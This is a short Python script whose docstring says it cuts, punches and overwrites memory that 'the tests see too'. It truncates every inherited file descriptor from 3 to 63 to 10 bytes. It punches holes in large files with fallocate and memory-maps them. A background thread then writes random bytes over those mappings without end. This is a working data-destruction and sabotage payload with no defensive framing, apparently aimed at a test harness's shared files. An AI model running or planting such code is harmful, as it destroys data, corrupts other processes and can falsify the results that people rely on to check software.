"""The memory that the tests see too is cut, punched and written to without end."""
import ctypes, mmap, os, threading
libc = ctypes.CDLL(None, use_errno=True)
found = []
for number in range(3, 64):
    try:
        size = os.fstat(number).st_size
        os.ftruncate(number, 10)
        print("FOUND")
    except OSError:
        pass
    try:
        if size >= 1 << 28:
            libc.fallocate(number, 3, ctypes.c_long(0), ctypes.c_long(size))
            found.append(mmap.mmap(number, size))
    except (OSError, ValueError, NameError):
        pass
def scribble():
    while True:
        for memory in found:
            memory[: 1 << 20] = os.urandom(1 << 20)
threading.Thread(target=scribble, daemon=True).start()
